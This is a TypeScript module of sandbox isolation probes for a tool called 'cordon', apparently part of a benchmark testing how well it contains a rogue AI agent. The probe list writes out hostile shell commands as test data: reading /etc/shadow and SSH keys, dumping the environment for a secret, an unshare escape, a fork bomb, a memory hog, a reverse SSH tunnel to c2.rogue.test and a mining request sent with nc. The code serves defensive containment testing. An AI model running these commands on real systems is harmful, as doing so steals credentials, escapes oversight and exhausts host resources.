/**
 * The isolation demonstration: short probes that try what a rogue agent tries (read secrets, write
 * outside, see the host, escape, exhaust it, phone home), each in its own sandbox, with what cordon
 * did about each. Also the probe set of the benchmark's capability matrix.
 */
import { spawn, spawnSync } from 'node:child_process';
import { existsSync, rmSync } from 'node:fs';
import { resolvePolicy, type PolicyFile } from '../policy/index.js';
import type { Report } from '../report/index.js';
import type { CordonRuntime } from '../runtime/index.js';

export interface ProbeOutcome {
  probe: string;
  /** The attempt failed to do harm. */
  blocked: boolean;
  /** What cordon reported about it (empty when nothing was reported). */
  reported: string;
  detail: string;
}

interface HostFixtures {
  marker: string;
  secretName: string;
  secretValue: string;
  shmId: string | undefined;
  outsidePath: string;
  cleanup(): void;
}

function hostFixtures(): HostFixtures {
  const tag = `${process.pid}${Date.now() % 100000}`;
  const marker = `31.${tag}`;
  // A host process the sandbox must not see: its argv carries the marker.
  const sleeper = spawn('sleep', [marker], { stdio: 'ignore', detached: false });
  const secretName = 'CORDON_DEMO_API_KEY';
  const secretValue = `sk-demo-${tag}`;
  process.env[secretName] = secretValue;
  const ipc = spawnSync('ipcmk', ['-M', '4096'], { encoding: 'utf8' });
  const shmId = /(\d+)\s*$/.exec(ipc.stdout ?? '')?.[1];
  const outsidePath = `/var/tmp/cordon-demo-escape-${tag}`;
  return {
    marker,
    secretName,
    secretValue,
    shmId,
    outsidePath,
    cleanup() {
      sleeper.kill('SIGKILL');
      delete process.env[secretName];
      if (shmId) spawnSync('ipcrm', ['-m', shmId]);
      rmSync(outsidePath, { force: true });
    },
  };
}

interface ProbeSpec {
  probe: string;
  script: string;
  policy?: PolicyFile;
  network?: boolean;
  judge(out: string, report: Report, fx: HostFixtures): { blocked: boolean; reported: string };
}

const findingOf = (r: Report, cat?: string) =>
  r.findings
    .filter((f) => !cat || f.category === cat)
    .map((f) => `${f.category}: ${f.rule} (${f.action})`)
    .join('; ');
const deniedFlow = (r: Report) =>
  r.network.flows
    .filter((f) => f.decision === 'deny')
    .map(
      (f) =>
        `${f.protocol} to ${f.host ?? f.address}:${f.port} denied, ${f.bytesOut} bytes forwarded`,
    )
    .join('; ');

const PROBES: ProbeSpec[] = [
  {
    probe: 'read a secret (/etc/shadow, ~/.ssh)',
    script: 'cat /etc/shadow 2>&1; ls -a /root/.ssh 2>&1; true',
    judge: (out) => ({
      blocked: !/root:[^\n]*:/.test(out) && !/id_/.test(out),
      reported: 'hidden by the mount policy',
    }),
  },
  {
    probe: 'write outside the workspace',
    script: 'touch "$OUTSIDE" 2>&1; echo x > /usr/cordon-probe 2>&1; true',
    judge: (_o, _r, fx) => ({
      blocked: !existsSync(fx.outsidePath) && !existsSync('/usr/cordon-probe'),
      reported: 'read-only filesystem',
    }),
  },
  {
    probe: 'see host processes',
    script: 'cat /proc/[0-9]*/cmdline 2>/dev/null | tr "\\0" " "; echo',
    judge: (out, _r, fx) => ({ blocked: !out.includes(fx.marker), reported: 'own pid namespace' }),
  },
  {
    probe: 'see host SysV IPC',
    script: 'ipcs -m 2>&1',
    judge: (out, _r, fx) => ({
      blocked: !fx.shmId || !new RegExp(`\\b${fx.shmId}\\b`).test(out),
      reported: 'own ipc namespace',
    }),
  },
  {
    probe: 'read a host secret from the environment',
    script: 'env',
    judge: (out, _r, fx) => ({
      blocked: !out.includes(fx.secretValue),
      reported: 'environment allowlist',
    }),
  },
  {
    probe: 'open a GPU device node',
    script: 'ls /dev/nvidia0 /dev/nvidiactl /dev/dri /dev/kfd 2>&1; true',
    judge: (out) => ({
      blocked: !/^\/dev\/(nvidia|dri|kfd)\S*$/m.test(out) && !/card\d|renderD/.test(out),
      reported: 'no device node without devices.gpu',
    }),
  },
  {
    probe: 'escape with a new user namespace (unshare)',
    script: 'unshare -Ur id 2>&1; true',
    judge: (out, r) => ({
      blocked: !/uid=0/.test(out),
      reported: r.deniedSyscalls
        .map((s) => `seccomp denied ${s.syscall} (${s.exe ?? s.pid})`)
        .join('; '),
    }),
  },
  {
    probe: 'fork bomb',
    script: 'i=0; while [ $i -lt 400 ]; do sleep 3 & i=$((i+1)); done 2>/dev/null; echo started',
    policy: { resources: { pids: 64, timeoutMs: 10000 } },
    judge: (_o, r) => ({
      blocked: r.resources.peakPids <= 64,
      reported: r.limitEvents
        .filter((l) => l.limit === 'pids')
        .map((l) => l.detail)
        .join('; '),
    }),
  },
  {
    probe: 'memory hog',
    script: 'head -c 600M /dev/zero | tail > /dev/null',
    policy: { resources: { memoryMB: 64, timeoutMs: 20000 } },
    judge: (_o, r) => ({
      blocked: r.exit.oomKilled || r.resources.peakMemoryBytes <= 80 * 1048576,
      reported: r.limitEvents
        .filter((l) => l.limit === 'memory')
        .map((l) => l.detail)
        .join('; '),
    }),
  },
  {
    probe: 'reverse SSH tunnel to c2.rogue.test',
    script:
      'ssh -o BatchMode=yes -o StrictHostKeyChecking=no -o ConnectTimeout=3 -R 9000:localhost:22 agent@c2.rogue.test 2>&1; true',
    network: true,
    judge: (_o, r) => ({
      blocked: r.network.flows.every((f) => f.decision === 'deny' || f.bytesOut === 0),
      reported: [deniedFlow(r), findingOf(r)].filter(Boolean).join('; '),
    }),
  },
  {
    probe: 'stratum mining on port 443',
    script:
      'printf \'{"id":1,"method":"mining.subscribe","params":["xmrig/6.21"]}\\n\' | nc -w 2 pool.rogue.test 443 2>&1; true',
    network: true,
    judge: (_o, r) => ({
      blocked: r.network.flows.every((f) => f.decision === 'deny' || f.bytesOut === 0),
      reported: [deniedFlow(r), findingOf(r)].filter(Boolean).join('; '),
    }),
  },
];

/** Runs every probe in its own sandbox and returns what happened to each. */
export async function runIsolationProbes(runtime: CordonRuntime): Promise<ProbeOutcome[]> {
  const fx = hostFixtures();
  const outcomes: ProbeOutcome[] = [];
  try {
    for (const spec of PROBES) {
      if (spec.network && !runtime.network) {
        outcomes.push({
          probe: spec.probe,
          blocked: true,
          reported: 'no network at all (network cordon off)',
          detail: 'skipped',
        });
        continue;
      }
      const policy = resolvePolicy({ ...spec.policy, env: { set: { OUTSIDE: fx.outsidePath } } });
      const { result, report } = await runtime.run(['sh', '-c', spec.script], {
        policy,
        capture: true,
      });
      const out = `${result.stdout ?? ''}${result.stderr ?? ''}`;
      const judged = spec.judge(out, report, fx);
      outcomes.push({
        probe: spec.probe,
        ...judged,
        detail: out.trim().split('\n').slice(-1)[0]?.slice(0, 120) ?? '',
      });
    }
  } finally {
    fx.cleanup();
  }
  return outcomes;
}
